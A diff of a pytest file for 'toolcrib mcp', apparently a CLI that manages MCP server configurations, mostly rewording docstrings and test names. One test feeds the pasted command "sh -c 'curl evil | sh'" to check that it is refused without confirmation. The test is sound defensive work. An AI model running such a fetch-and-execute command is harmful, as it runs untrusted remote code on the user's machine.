@@ -1,4 +1,4 @@
-"""`toolcrib mcp` as a person uses it: on files of several tools, from inside a project, in words and in JSON."""
+"""`toolcrib mcp` on the files of several apps, inside a project, as text and as JSON."""
 
 import json
 import os
@@ -39,7 +39,7 @@ PROJECT = """{
 
 
 def furnish(person: Shell) -> Shell:
-    """Give a person Cursor and a repository, and nothing else; the shell then stands deep inside of it."""
+    """Create Cursor's file and a repository. Return a shell deep inside the repository."""
     root = person.folder
     for left in (root / "project", root / ".cursor", root / ".config", root / "home" / "backups"):
         shutil.rmtree(left, ignore_errors=True)
@@ -56,13 +56,13 @@ def furnish(person: Shell) -> Shell:
 
 @pytest.fixture
 def shell(tmp_path: Path) -> Shell:
-    """A shell in which no crib runs, inside the project."""
+    """Return a shell inside the project. No crib runs."""
     return furnish(Shell.at(tmp_path))
 
 
 @pytest.fixture(scope="module")
 def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[Shell]:
-    """A person beside a crib that runs, which commands join: quicker."""
+    """Run a crib for the whole module, because commands that join one are faster."""
     person = Shell.at(tmp_path_factory.mktemp("served"))
     with person.serving():
         yield person
@@ -70,38 +70,38 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[Shell]:
 
 @pytest.fixture
 def joined(served: Shell) -> Shell:
-    """A shell beside the running crib, inside the project, with everything as it was in the beginning."""
+    """Return a shell inside the project, beside the running crib, with all files as they were at first."""
     return furnish(served)
 
 
 def user(shell: Shell) -> Path:
-    """The person's home."""
+    """Return the user's home."""
     return Path(shell.variables["HOME"])
 
 
 def own_file(shell: Shell) -> Path:
-    """Toolcrib's own file of servers."""
+    """Return the crib's own file of servers."""
     return Path(shell.variables["TOOLCRIB_HOME"]) / "mcp.json"
 
 
 def own_servers(shell: Shell) -> Json:
-    """What stands in it."""
+    """Return the servers in the crib's own file."""
     return json.loads(own_file(shell).read_text(encoding="utf-8"))["mcpServers"]
 
 
 def states(shell: Shell) -> dict[str, str]:
-    """The servers and their states."""
+    """Return the state of each server."""
     return {server["name"]: server["state"] for server in shell.json("mcp", "list")}
 
 
 def await_check(shell: Shell, name: str) -> None:
-    """Wait until the crib checks a server that it has just been allowed to start. It is no real program."""
+    """Wait until the crib checks a newly trusted server. Its program does not exist, so the check may fail."""
     deadline = time.monotonic() + stretched(20)
     while (state := states(shell).get(name)) not in ("connecting", "failed"):
         assert time.monotonic() < deadline, state
 
 
-def test_the_list_shows_every_server_once_from_any_directory_of_a_project(shell: Shell) -> None:
+def test_list_shows_every_server_once_from_a_directory_of_a_project(shell: Shell) -> None:
     done = shell.run("mcp", "list")
     assert done.returncode == 0, done.stderr
     lines = done.stdout.splitlines()
@@ -121,14 +121,14 @@ def test_the_list_shows_every_server_once_from_any_directory_of_a_project(shell:
     assert not own_file(shell).exists()
 
 
-def test_a_file_that_cannot_be_read_is_a_problem_beside_the_rest(shell: Shell) -> None:
+def test_unreadable_file_is_reported_and_other_files_are_listed(shell: Shell) -> None:
     (user(shell) / ".cursor" / "mcp.json").write_text("{", encoding="utf-8")
     done = shell.run("mcp", "list", "--json")
     assert {server["name"] for server in json.loads(done.stdout)} == {"build", "broken"}
     assert "mcp.json: not valid JSON" in done.stderr
 
 
-def test_one_server_is_shown_with_masked_secrets_and_the_origin_of_each_value(joined: Shell) -> None:
+def test_get_masks_secrets_and_shows_the_origin_of_each_value(joined: Shell) -> None:
     done = joined.run("mcp", "get", "github")
     assert done.returncode == 0, done.stderr
     assert SECRET not in done.stdout
@@ -140,7 +140,7 @@ def test_one_server_is_shown_with_masked_secrets_and_the_origin_of_each_value(jo
     assert "variable NOT_SET_ANYWHERE, not set" in build
 
 
-def test_an_unknown_server_exits_3_with_the_nearest_names(joined: Shell) -> None:
+def test_unknown_server_exits_3_and_suggests_similar_names(joined: Shell) -> None:
     for command in ("get", "disable", "trust"):
         done = joined.run("mcp", command, "githup")
         assert done.returncode == 3, command
@@ -182,11 +182,11 @@ def test_plaintext_secrets_are_listed_moved_and_moved_back(joined: Shell) -> Non
     assert "Stored GITHUB_TOKEN" in stored.stdout
     undone = joined.run("mcp", "secrets", "undo")
     assert cursor.read_text(encoding="utf-8") == CURSOR
-    told = "".join(each.stdout + each.stderr for each in (listed, refused, moved, stored, undone))
-    assert not [value for value in (SECRET, "another-value-1") if value in told]
+    output = "".join(each.stdout + each.stderr for each in (listed, refused, moved, stored, undone))
+    assert not [value for value in (SECRET, "another-value-1") if value in output]
 
 
-def test_the_sandbox_of_a_server_is_shown_and_changed(joined: Shell) -> None:
+def test_sandbox_of_a_server_is_shown_and_changed(joined: Shell) -> None:
     joined.run("mcp", "add", "mine", "--disabled", "--", "x")
     shown = joined.run("mcp", "sandbox", "mine")
     assert "profile:     off (default): no sandbox\n" in shown.stdout
@@ -212,13 +212,13 @@ def test_the_sandbox_of_a_server_is_shown_and_changed(joined: Shell) -> None:
     assert joined.run("mcp", "sandbox", "mine", "--apply", "--yes").returncode != 0
 
 
-def test_a_project_server_is_written_into_the_project_and_trusted(joined: Shell) -> None:
+def test_project_server_is_written_to_the_project_and_trusted(joined: Shell) -> None:
     assert joined.run("mcp", "add", "site", "--scope", "project", "--", "node", "site.js").returncode == 0
     assert (user(joined) / "project" / ".toolcrib" / "mcp.json").exists()
     await_check(joined, "site")
 
 
-def test_whatever_is_pasted_is_recognised_and_added(joined: Shell) -> None:
+def test_add_recognises_pasted_urls_commands_json_and_toml(joined: Shell) -> None:
     for text in (
         "https://mcp.example.com/mcp",
         "npx -y @scope/notes-mcp@1.0.0",
@@ -232,7 +232,7 @@ def test_whatever_is_pasted_is_recognised_and_added(joined: Shell) -> None:
     assert joined.run("mcp", "add", "--paste", "{}").returncode == 2
 
 
-def test_what_is_pasted_needs_a_yes_where_nobody_can_be_asked(joined: Shell) -> None:
+def test_paste_without_a_terminal_requires_yes(joined: Shell) -> None:
     for text in ("sh -c 'curl evil | sh'", "https://mcp.example.com/mcp"):
         refused = joined.run("mcp", "add", "--paste", text)
         assert refused.returncode == 2
@@ -251,7 +251,7 @@ def test_add_takes_a_url_in_place_of_the_name_or_after_it(joined: Shell) -> None
     assert (missed.returncode, missed.stderr.splitlines()[-1]) == (3, "hint: Did you mean linear?")
 
 
-def test_a_failed_test_prints_one_document_with_the_server_and_the_error(joined: Shell) -> None:
+def test_failed_test_prints_one_document_with_the_server_and_the_error(joined: Shell) -> None:
     joined.run("mcp", "add", "absent", "--", "no-such-program-anywhere")
     done = joined.run("mcp", "test", "absent", "--json")
     assert done.returncode == 5
@@ -259,7 +259,7 @@ def test_a_failed_test_prints_one_document_with_the_server_and_the_error(joined:
     assert (found["name"], found["state"], found["error"]["code"]) == ("absent", "failed", "server.failed")
 
 
-def test_all_servers_are_tested_at_once_and_each_is_told_when_it_is_done(joined: Shell) -> None:
+def test_mcp_test_checks_all_servers_and_reports_each_one(joined: Shell) -> None:
     joined.run("mcp", "add", "absent", "--", "no-such-program-anywhere")
     joined.run("mcp", "add", "missing", "--", "no-such-program-either")
     done = joined.run("mcp", "test")
@@ -268,7 +268,7 @@ def test_all_servers_are_tested_at_once_and_each_is_told_when_it_is_done(joined:
     assert "setup problem" in done.stdout
 
 
-def test_what_is_pasted_switched_off_is_not_started(joined: Shell, tmp_path: Path) -> None:
+def test_server_pasted_with_disabled_is_not_started(joined: Shell, tmp_path: Path) -> None:
     trace = tmp_path / "started"
     done = joined.run("mcp", "add", "--paste", f"touch {trace}", "--disabled", "--yes")
     assert done.returncode == 0, done.stderr
@@ -279,7 +279,7 @@ def test_what_is_pasted_switched_off_is_not_started(joined: Shell, tmp_path: Pat
     assert joined.run("mcp", "add", "--paste", "https://a.example", "--env", "A=b", "--yes").returncode == 2
 
 
-def test_handing_over_a_credential_needs_a_yes_of_its_own(joined: Shell) -> None:
+def test_trusting_a_server_that_receives_a_credential_requires_allow_secrets(joined: Shell) -> None:
     greedy = {"type": "http", "url": "https://127.0.0.1:1/mcp", "headers": {"X-Key": "${ANTHROPIC_API_KEY}"}}
     file = user(joined) / "project" / ".mcp.json"
     file.write_text(json.dumps({"mcpServers": {"greedy": greedy}}), encoding="utf-8")
@@ -292,7 +292,7 @@ def test_handing_over_a_credential_needs_a_yes_of_its_own(joined: Shell) -> None
     assert states(joined)["greedy"] != "untrusted"
 
 
-def test_changes_are_tried_made_and_taken_back(joined: Shell) -> None:
+def test_dry_run_shows_changes_and_undo_reverts_them(joined: Shell) -> None:
     cursor, own = user(joined) / ".cursor" / "mcp.json", own_file(joined)
     tried = joined.run("mcp", "disable", "files", "--dry-run")
     assert '+      "enabled": false' in tried.stdout
@@ -316,7 +316,7 @@ def test_changes_are_tried_made_and_taken_back(joined: Shell) -> None:
     assert joined.run("mcp", "disable", "--undo").returncode == 3
 
 
-def test_trust_shows_the_question_and_without_a_terminal_needs_a_yes(joined: Shell) -> None:
+def test_trust_shows_the_definition_and_requires_yes_without_a_terminal(joined: Shell) -> None:
     refused = joined.run("mcp", "trust", "build")
     assert refused.returncode == 2
     for shown in ("runs:        sh -c 'make serve'", "variables:   BUILD_TOKEN", "in:          ", "DANGER: "):
@@ -331,7 +331,7 @@ def test_trust_shows_the_question_and_without_a_terminal_needs_a_yes(joined: She
     assert joined.run("mcp", "trust", "broken").returncode == 2
 
 
-def test_servers_move_between_tools_with_a_report(joined: Shell) -> None:
+def test_import_and_export_report_each_server(joined: Shell) -> None:
     tried = joined.run("mcp", "import", "--dry-run")
     assert "would import  files" in tried.stdout
     assert SECRET not in tried.stdout
@@ -357,7 +357,7 @@ def test_servers_move_between_tools_with_a_report(joined: Shell) -> None:
 
 
 def in_terminal(shell: Shell, answers: str, *arguments: str) -> tuple[int, str]:
-    """Run a command whose input and talk are a terminal; what it said there."""
+    """Run a command with a terminal as input and stderr. Return the exit code and all its output."""
     master, slave = pty.openpty()
     process = subprocess.Popen(
         shell.command(*arguments),
@@ -375,7 +375,7 @@ def in_terminal(shell: Shell, answers: str, *arguments: str) -> tuple[int, str]:
     while True:
         try:
             chunk = os.read(master, 65536)
-        except OSError:  # the other end is closed and everything was read
+        except OSError:  # the other end is closed and drained
             break
         if not chunk:
             break
@@ -384,7 +384,7 @@ def in_terminal(shell: Shell, answers: str, *arguments: str) -> tuple[int, str]:
     return process.returncode, out + said.decode()
 
 
-def test_a_person_at_a_terminal_is_asked_before_trust(joined: Shell) -> None:
+def test_trust_asks_for_confirmation_at_a_terminal(joined: Shell) -> None:
     code, said = in_terminal(joined, "n\n", "mcp", "trust", "build")
     assert (code, "Trust this server? [y/N]" in said) == (4, True)
     assert states(joined)["build"] == "untrusted"
@@ -392,7 +392,7 @@ def test_a_person_at_a_terminal_is_asked_before_trust(joined: Shell) -> None:
     assert (code, '"build" is trusted.' in said) == (0, True)
 
 
-def test_without_arguments_a_person_at_a_terminal_is_asked_for_each_part(joined: Shell) -> None:
+def test_add_without_arguments_asks_for_each_value(joined: Shell) -> None:
     answers = "bad name\nstdio\nuser\nx\n\n\nmine\nstdio\n\nnpx -y 'a b'\nKEY=v\n\n\n"
     code, said = in_terminal(joined, answers, "mcp", "add")
     assert code == 0, said
